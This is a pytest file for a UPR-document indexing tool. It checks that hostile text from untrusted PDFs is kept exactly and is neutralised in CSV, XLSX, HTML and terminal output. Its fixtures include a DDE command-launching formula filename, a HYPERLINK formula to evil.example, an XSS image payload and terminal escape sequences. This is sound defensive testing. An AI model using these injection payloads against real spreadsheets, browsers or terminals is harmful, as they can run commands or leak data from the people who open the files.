"""Hostile text (tests/hostile.py TEXTS) through ingest, every export format and the HTML report.

Text from an untrusted PDF opening with "=", "+", "-" or "@", holding control characters, a
right-to-left override or 40,000 characters: the index keeps it exactly, JSON and JSONL give it
back exactly, XLSX holds it in string cells (no formula, the control characters as their
pictures, an over-long text continued in a `_part2` column), CSV neutralises it with a leading
"'" (and `--raw` gives it exactly), and the HTML report shows it as text.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from uprdex.flows.cli import main
from uprdex.flows.ingest import import_file, ingest_paths
from uprdex.pipeline.exports import KINDS, records
from uprdex.pipeline.report import write_report
from uprdex.pipeline.settings import LoaderSettings
from uprdex.pipeline.spreadsheet import XLSX_MAX_CHARS, xlsx_text
from uprdex.pipeline.store import Store

from helpers import fixture
from hostile import LONG_PARAGRAPH_CHARS, TEXTS, HostileText, make_texts

# A file that is not a PDF, named like a DDE formula: its documents row's error opens with it.
FORMULA_NAME = "=2+5+cmd|' -C calc'!A0.pdf"
# A UPR Info export row whose text and issue open like formulas (their cells come from a
# website's CSV, not from uprdex).
UPR_INFO = (
    "To,To-Rgrp,To-Org,Text,From,From-Rgrp,From-Org,Response,Action,Issue,Session\n"
    'Slovenia,EEG,EU,"=HYPERLINK(""http://evil.example"",""Ratify"") the Convention",'
    'Croatia,EEG,EU,Accepted,4,"@Labour",20\n'
)
IMPORTED_TEXT = '=HYPERLINK("http://evil.example","Ratify") the Convention'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
LONG = next(item for item in TEXTS if item.name == "long_paragraph.pdf")


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile texts, the report they cite, a formula-named broken file and a hostile UPR
    Info row, in one index."""
    root = tmp_path_factory.mktemp("hostile-text")
    make_texts(root / "inbox")
    (root / "inbox" / FORMULA_NAME).write_bytes(b"This is a note, not a PDF.\n")
    export = root / "upr_info.csv"
    export.write_text(UPR_INFO, encoding="utf-8")
    path = root / "index.sqlite"
    with Store(path) as store:
        settings = LoaderSettings(workers=1)
        ingest_paths([root / "inbox", fixture("slovenia2014_recs.pdf")], store, settings)
        assert import_file(export, "upr-info", store).ok
    return path


def _export(index: Path, what: str, fmt: str, out: Path | None = None, *flags: str) -> str:
    args = ["export", "--what", what, "--format", fmt, "--index", str(index), *flags]
    result = CliRunner().invoke(main, [*args, *(["--out", str(out)] if out else [])])
    assert result.exit_code == 0, result.output
    return result.stdout


def _evidence_of(rows: list[dict[str, str]], item: HostileText) -> dict[str, str]:
    """The one evidence row of a hostile text's document."""
    (row,) = [row for row in rows if Path(row["document_path"]).name == item.name]
    return row


def test_ingest_keeps_each_hostile_text_exactly(index: Path) -> None:
    with Store(index) as store:
        evidence = records(store, "evidence")
        documents = {Path(d["path"]).name: d for d in records(store, "documents")}
    assert len(LONG.sentence) == LONG_PARAGRAPH_CHARS
    for item in TEXTS:
        mine = [e for e in evidence if Path(e["document"]["path"]).name == item.name]
        assert [(e["recommendation_id"], e["context"]) for e in mine] == [
            (item.cites, item.sentence)
        ], item.kind
    assert documents[FORMULA_NAME]["status"] == "failed"
    assert documents[FORMULA_NAME]["error"].startswith(f"{FORMULA_NAME}: ")


def test_json_and_jsonl_exports_are_exact(index: Path) -> None:
    lines = [json.loads(line) for line in _export(index, "evidence", "jsonl").splitlines()]
    listed = json.loads(_export(index, "evidence", "json"))
    assert lines == listed
    contexts = {Path(row["document"]["path"]).name: row["context"] for row in lines}
    assert {item.name: item.sentence for item in TEXTS} == {
        item.name: contexts[item.name] for item in TEXTS
    }


@pytest.mark.parametrize("what", [*KINDS, "matrix"])  # the UPR matrix workbook too
def test_xlsx_export_has_no_formula_cell_and_keeps_the_text(
    index: Path, tmp_path: Path, what: str
) -> None:
    out = tmp_path / f"{what}.xlsx"
    _export(index, what, "xlsx", out)
    with zipfile.ZipFile(out) as workbook:
        sheets = [workbook.read(n) for n in workbook.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(rb"<(?:\w+:)?f[ >/]", sheet) for sheet in sheets)
    rows = list(load_workbook(out).active.iter_rows())
    header = [cell.value for cell in rows[0]]
    cells = [cell for row in rows[1:] for cell in row]
    # Text is a (shared or inline) string, numbers and booleans themselves; nothing else.
    kinds = {cell.coordinate: cell.data_type for cell in cells}
    assert set(kinds.values()) <= {"s", "inlineStr", "n", "b"}, kinds
    assert all(len(str(cell.value or "")) <= XLSX_MAX_CHARS for cell in cells)
    table = [dict(zip(header, (cell.value for cell in row), strict=True)) for row in rows[1:]]
    if what == "evidence":
        for item in TEXTS:
            row = _evidence_of(table, item)
            parts = [row["context"]] + [
                row[f"context_part{n}"] for n in range(2, 4) if row.get(f"context_part{n}")
            ]
            assert "".join(parts) == xlsx_text(item.sentence), item.kind
        assert header[-1] == "context_part2"  # 40,000 characters: two cells, none cut
    if what == "documents":
        row = next(row for row in table if Path(row["path"]).name == FORMULA_NAME)
        assert row["error"].startswith(FORMULA_NAME)
    if what == "recommendations":
        assert IMPORTED_TEXT in [row["text"] for row in table]
    if what == "clusters":
        assert IMPORTED_TEXT in [row["canonical_text"] for row in table]


def test_xlsx_shows_control_characters_as_pictures() -> None:
    assert xlsx_text("a\x07b\x1bc\x00d\ufffee\tf\ng\rh") == "a␇b␛c␀d\ufffde\tf\ng\rh"


@pytest.mark.parametrize("what", KINDS)
def test_csv_export_neutralises_formulas_and_keeps_the_text(index: Path, what: str) -> None:
    table = list(csv.DictReader(io.StringIO(_export(index, what, "csv"))))
    opening = [value for row in table for value in row.values() if value.startswith(TRIGGERS)]
    assert opening == []
    if what == "evidence":
        for item in TEXTS:
            context = _evidence_of(table, item)["context"]
            expected = f"'{item.sentence}" if item.sentence.startswith(TRIGGERS) else item.sentence
            assert context == expected, item.kind
    if what == "recommendations":
        assert f"'{IMPORTED_TEXT}" in [row["text"] for row in table]
        assert any(row["themes"] == "'@Labour" for row in table)
    if what == "documents":
        errors = [row["error"] for row in table if Path(row["path"]).name == FORMULA_NAME]
        assert errors and errors[0].startswith(f"'{FORMULA_NAME}")


def test_raw_csv_is_byte_exact_for_programs(index: Path, tmp_path: Path) -> None:
    out = tmp_path / "evidence.csv"
    _export(index, "evidence", "csv", out, "--raw")
    table = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    for item in TEXTS:
        assert _evidence_of(table, item)["context"] == item.sentence, item.kind


def test_html_report_shows_the_text_as_text(index: Path, tmp_path: Path) -> None:
    with Store(index) as store:
        write_report(store, tmp_path / "html", "Slovenia")
    page = next((tmp_path / "html").glob("*.html")).read_text(encoding="utf-8")
    pages = "".join(p.read_text(encoding="utf-8") for p in (tmp_path / "html").glob("*.html"))
    assert page and "<img src=x" not in pages and "&lt;img src=x onerror=alert(1)&gt;" in pages
    assert "HYPERLINK(&#34;http://evil.example/?d=1&#34;,&#34;Read&#34;)" in pages
    # No control character a browser would swallow: each shows as its picture.
    assert not re.search("[\x00-\x08\x0b\x0e-\x1f\x7f-\x9f]", pages)
    assert "␇rings␛[31m red␁ and ␈␡␎ goes back unimplemented." in pages
    # The override is closed inside an isolate: the page text after it keeps its direction.
    assert "\u2068Recommendation 115.18 of A/HRC/28/15 was \u202edetnemelpmi ton\u202c" in pages
    assert "\u202c by the Government.\u2069" in pages
    assert LONG.sentence in pages


def test_an_over_long_cell_goes_on_in_a_part_column_never_cut(tmp_path: Path) -> None:
    from uprdex.pipeline.exports import write_export

    text = "".join(f"{n:07d} " for n in range(5_000))  # 40,000 characters, each place unique
    write_export(
        [{"id": "a", "context": text, "score": 1.0}], "xlsx", "evidence", tmp_path / "x.xlsx"
    )
    sheet = load_workbook(tmp_path / "x.xlsx").active
    assert [cell.value for cell in sheet[1]] == ["id", "context", "score", "context_part2"]
    first, rest = sheet["B2"].value, sheet["D2"].value
    assert (len(first), first + rest) == (XLSX_MAX_CHARS, text)


def test_a_text_that_must_fit_one_cell_is_cut_with_a_visible_flag(tmp_path: Path) -> None:
    from openpyxl import Workbook

    from uprdex.pipeline.spreadsheet import append_xlsx_row

    sheet = Workbook().active
    cells = append_xlsx_row(sheet, ["=1+1", "#N/A", "x" * 40_000, 3, None, True])
    assert [cell.data_type for cell in cells] == ["s", "s", "s", "n", "n", "b"]
    cut = cells[2].value
    assert len(cut) == XLSX_MAX_CHARS
    assert cut.endswith(
        f"… [cut: {40_000 - cut.index('…'):,} more characters; the JSON export has the whole text]"
    )


def test_the_terminal_shows_escape_sequences_never_runs_them(index: Path) -> None:
    # "\x1b[31m" in a PDF would turn the terminal red; "\x1b[2J" would clear it.
    runner = CliRunner()
    for args in (["evidence", "A/HRC/28/15", "115.11"], ["search", "rings"], ["status"]):
        result = runner.invoke(main, [*args, "--index", str(index)])
        assert result.exit_code == 0, result.output
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", result.output), args
    shown = runner.invoke(main, ["evidence", "A/HRC/28/15", "115.11", "--index", str(index)])
    assert "rings␛[31m red␁ and ␡␎ goes back" in shown.output
